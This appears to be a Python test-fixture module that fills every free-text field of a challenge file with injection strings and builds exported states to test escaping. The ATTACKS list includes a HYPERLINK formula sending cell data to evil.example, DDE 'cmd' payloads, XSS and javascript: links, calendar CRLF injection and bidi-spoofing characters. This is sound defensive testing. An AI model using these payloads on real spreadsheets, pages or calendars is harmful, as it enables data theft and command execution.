"""A challenge in which every text that a person may write is an attack, and the state it makes."""

from __future__ import annotations

from copy import deepcopy
from datetime import UTC, date, datetime
from itertools import count, cycle
from typing import TYPE_CHECKING, Any

from pydantic import ValidationError

from hundredday.challenge import Challenge
from hundredday.days import WorkingCalendar
from hundredday.exports.json import Said, Whole, json
from hundredday.exports.state import Exported, State
from hundredday.history import events_between
from hundredday.history.timeline import Entry
from hundredday.outlook.agenda import dues
from hundredday.outlook.follow_up import follow_ups
from hundredday.outlook.summary import standing
from hundredday.programme import Accelerator, Settings
from hundredday.store.yaml.reading import parse

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

TODAY = date(2026, 5, 26)

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "\uff1d1+1",
    'a,b;c\td"e\n=1+1',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![y](http://evil.example/y.png)",
    "# heading",
    "| a cell | more",
    "- item\n1. item\n> quoted\n---\n```",
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "a\nATTENDEE:mailto:x@evil.example\\;,",
    "\x1b[31mred\x1b[0m \x07\x08\x7f\x9b31m",
    "\u202egnp.exe \u2066x\u2069 \ufeff \u2028",
    "_x0041_ &amp; {{7*7}} ${7*7} %n",
    "x" * 40_000,
)


def attacked(source: Path, attacks: tuple[str, ...] = ATTACKS, *, shift: int = 0) -> tuple[Challenge, int]:
    """The challenge of a file with an attack in the place of every free text, and how many there are."""
    data: Any = deepcopy(parse(source.read_bytes(), source.name).data)
    turn, changed = cycle([*attacks[shift:], *attacks[:shift]]), 0
    for holder, key in list(_texts(data)):
        before = holder[key]
        holder[key] = next(turn)
        try:
            Challenge.model_validate(data)
            changed += 1
        except ValidationError:  # a key or one of a few words: nobody can write there what they like
            holder[key] = before
    return Challenge.model_validate(data), changed


def document_of(state: State) -> bytes:
    """What `export json` makes of the challenges of a state."""
    said = [Said(one.id, one.standing.path, one.challenge) for one in state.challenges]
    return b"".join(json(Whole(state.accelerator, said)))


def state_of(*challenges: Challenge, today: date = TODAY, name: str = ATTACKS[0]) -> State:
    """A state of these challenges, each with its own story."""
    settings, numbers = Settings(), count(1)
    found = []
    entries: list[Entry] = []
    for challenge, number in zip(challenges, numbers, strict=False):
        name_ = f"challenge-{number}"
        stands = standing(
            challenge,
            id=name_,
            path=f"challenges/{name_}.yaml",
            settings=settings,
            calendar=WorkingCalendar(),
            today=today,
        )
        looks = follow_ups(challenge, settings=settings, today=today)
        owed = dues(name_, challenge, settings=settings, today=today)
        found.append(Exported(challenge, stands, owed, looks))
        when = datetime(today.year, today.month, today.day, 9, tzinfo=UTC)
        entries += [
            Entry("0" * 40, when, "Dana Omarova", name_, 1, event)
            for event in events_between(None, challenge)
        ]
    return State(name, Accelerator(name=name), today, tuple(found), tuple(entries), has_history=True)


def _texts(data: Any) -> Iterator[tuple[Any, Any]]:
    pairs = data.items() if isinstance(data, dict) else enumerate(data)
    for key, value in pairs:
        if isinstance(value, dict | list):
            yield from _texts(value)
        elif isinstance(value, str):
            yield data, key
